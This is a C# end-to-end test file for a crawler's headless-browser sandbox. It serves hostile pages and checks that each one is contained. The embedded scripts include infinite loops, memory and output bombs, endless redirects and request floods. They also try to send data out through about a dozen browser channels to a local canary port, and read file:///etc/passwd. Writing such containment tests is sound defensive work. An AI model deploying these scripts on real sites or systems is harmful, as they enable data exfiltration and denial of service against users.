using System.Diagnostics;
using System.Text;
using RiskMonitor.Collecting;
using RiskMonitor.EndToEnd.Tests.Isolation;

namespace RiskMonitor.EndToEnd.Tests.Rendering;

/// <summary>Pages that want more than their share, or somewhere else. Whatever they do is an outcome, and the next page is normal.</summary>
[Collection(nameof(Alone))]
public sealed class RenderedHostilePageTests(RenderingRig rig) : IClassFixture<RenderingRig>
{
    private ScriptedSite Site => rig.Site;

    [Theory]
    [InlineData("bucle", "<script>for (;;);</script>", "of its own")]
    [InlineData("avisos", "<script>for (;;) alert('hola')</script>", "of its own")]
    [InlineData("memoria", "<script>const kept = []; for (let i = 0; i < 50; i++) kept.push(new Uint8Array(10 << 20).fill(1)); setInterval(() => kept.length, 1000)</script>", "the page took more than 200 MiB")]
    [InlineData("larga", "<script>document.body.append('x'.repeat(400 * 1024))</script>", "larger than")]
    public async Task A_page_over_a_limit_is_ended_with_its_reason_and_the_next_is_normal(string name, string body, string reason)
    {
        var pages = await rig.CollectAsync([Site.Page("/" + name, body), Site.Url("/oferta/1")]);

        Assert.Equal(FetchOutcome.TooLarge, pages[0].Outcome);
        Assert.Contains(reason, pages[0].Reason, StringComparison.Ordinal);
        Assert.True(pages[0].Body.IsEmpty);
        AssertNormal(pages[1]);
    }

    [Fact]
    public async Task A_page_that_goes_somewhere_else_without_end_is_asked_for_a_few_times_only()
    {
        Site.Page("/sin-fin", "<p>aquí</p><script>setTimeout(() => location.href = '/sin-fin?' + Math.random())</script>");

        var pages = await rig.CollectAsync([Site.Url("/sin-fin"), Site.Url("/oferta/1")]);

        Assert.InRange(Site.Asked.Count(path => path.StartsWith("/sin-fin", StringComparison.Ordinal)), 2, 8);
        AssertNormal(pages[1]);
    }

    [Fact]
    public async Task Requests_over_the_limit_of_a_page_are_not_made()
    {
        var page = Site.Page("/muchas", "<script>for (let i = 0; i < 200; i++) fetch('/api/muchas?' + i).catch(() => 0)</script>");

        var rendered = Assert.Single(await rig.CollectAsync([page]));

        Assert.Equal(FetchOutcome.Fetched, rendered.Outcome);
        Assert.Contains("first 12 requests", rendered.Reason, StringComparison.Ordinal);
        Assert.Equal(12, Site.Asked.Count(path => path.StartsWith("/api/muchas", StringComparison.Ordinal)));
    }

    /// <summary>Every way out that a page has, to a canary on this machine; and images, sound, fonts and frames of the site itself.</summary>
    [Fact]
    public async Task Nothing_leaves_the_browser_and_no_picture_is_asked_for()
    {
        using var canary = new Canary();
        var page = Site.Page("/fuga", $$"""
            <link rel="preconnect" href="http://127.0.0.1:{{canary.Port}}"><link rel="dns-prefetch" href="//canario.localhost"><link rel="prefetch" href="http://127.0.0.1:{{canary.Port}}/p">
            <link rel="icon" href="/pic/icono.ico"><link rel="preload" as="image" href="/pic/previa.png"><link rel="manifest" href="/pic/manifest.json">
            <style>@font-face { font-family: x; src: url(/pic/letra.woff2) } body { font-family: x; background: url(/pic/fondo.png) }</style>
            <img src="/pic/una.png" srcset="/pic/dos.png 2x" onerror="this.remove()"><video src="/pic/v.mp4" autoplay></video><audio src="/pic/a.mp3" autoplay></audio>
            <iframe src="/pic/marco"></iframe><iframe src="file:///etc/passwd"></iframe><object data="/pic/o.svg"></object><embed src="/pic/e.pdf">
            <script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://127.0.0.1:{{canary.Port}}/s","/pic/especulada"]}]}</script>
            <script>
              const out = 'http://127.0.0.1:{{canary.Port}}';
              localStorage.setItem('seen', String(Number(localStorage.getItem('seen') ?? 0) + 1));
              document.body.insertAdjacentHTML('beforeend', '<h1>Intentos</h1><div class="cuerpo">visitas:' + localStorage.getItem('seen') + '</div>');
              const note = text => document.querySelector('.cuerpo').insertAdjacentText('beforeend', ' ' + text);
              const attempt = async (name, what) => { try { const got = await what(); note(name + ':' + (got && got.ok ? 'REACHED' : 'no')); } catch { note(name + ':no'); } };
              // All at once and each written down as it ends: a page that is quiet for a while is taken as it stands.
              [
                attempt('fetch', () => fetch(out)),
                attempt('name', () => fetch('http://localhost:{{canary.Port}}/')),
                attempt('own host, other port', () => fetch('http://{{ScriptedSite.Host}}:{{canary.Port}}/', { method: 'POST', body: 'x' })),
                attempt('post', () => fetch('/api/publica', { method: 'POST', body: 'x' })),
                attempt('file', () => fetch('file:///etc/passwd')),
                attempt('beacon', async () => ({ ok: false, sent: navigator.sendBeacon(out, 'x') })),
                attempt('image', () => new Promise((done, fail) => { const image = new Image(); image.onload = () => done({ ok: true }); image.onerror = fail; image.src = out + '/i.png'; })),
                attempt('socket', () => new Promise((done, fail) => { const socket = new WebSocket('ws://127.0.0.1:{{canary.Port}}/'); socket.onclose = () => done({ ok: false }); socket.onerror = fail; setTimeout(fail, 500); })),
                attempt('events', () => new Promise((done, fail) => { const events = new EventSource(out); events.onerror = fail; setTimeout(fail, 500); })),
                attempt('worker', () => new Promise((done, fail) => { const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${out}/w').then(() => postMessage(1), () => postMessage(0))`]))); worker.onmessage = m => done({ ok: m.data === 1 }); worker.onerror = fail; setTimeout(fail, 1000); })),
                attempt('service worker', () => navigator.serviceWorker.register('/pic/sw.js').then(done => ({ ok: Boolean(done?.installing ?? done?.active) }))),
                attempt('rtc', async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:{{canary.Port}}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise(done => setTimeout(done, 500)); return { ok: false }; }),
                attempt('geo', () => new Promise((done, fail) => { navigator.geolocation.getCurrentPosition(() => done({ ok: true }), fail); setTimeout(fail, 500); })),
              ];
              window.open(out + '/popup'); window.open('/pic/ventana');
              const link = document.createElement('a'); link.href = '/pic/descarga.zip'; link.download = 'x.zip'; document.body.append(link); link.click();
            </script>
            """);

        var pages = await rig.CollectAsync([page, Site.Url("/fuga?otra"), Site.Url("/oferta/1")]);

        Assert.Equal(3, pages.Count);
        foreach (var rendered in pages.Take(2))
        {
            Assert.True(rendered.Outcome == FetchOutcome.Fetched, rendered.Reason);
            var html = Encoding.UTF8.GetString(rendered.Body.Span);
            Assert.DoesNotContain(":REACHED", html, StringComparison.Ordinal);
            Assert.Contains("service worker:no", html, StringComparison.Ordinal);
            Assert.Contains("visitas:1", html, StringComparison.Ordinal);
        }

        Assert.Equal(0, canary.Hits);
        Assert.DoesNotContain(Site.Asked, path => path.StartsWith("/pic/", StringComparison.Ordinal) || path is "/api/publica" or "/favicon.ico");
        AssertNormal(pages[2]);
    }

    [Fact]
    public async Task A_browser_that_was_killed_is_started_anew()
    {
        AssertNormal(Assert.Single(await rig.CollectAsync([Site.Url("/oferta/1")])));
        var open = await rig.Browser.TakeAsync(TestContext.Current.CancellationToken);
        using (var process = Process.GetProcessById(open.MainProcess))
            process.Kill();
        await rig.Browser.GiveBackAsync(open);

        AssertNormal(Assert.Single(await rig.CollectAsync([Site.Url("/oferta/2")])));
    }

    private static void AssertNormal(FetchedPage page)
    {
        Assert.True(page.Outcome == FetchOutcome.Fetched, page.Reason);
        Assert.Contains("ayudante de panadería", Encoding.UTF8.GetString(page.Body.Span), StringComparison.Ordinal);
    }
}
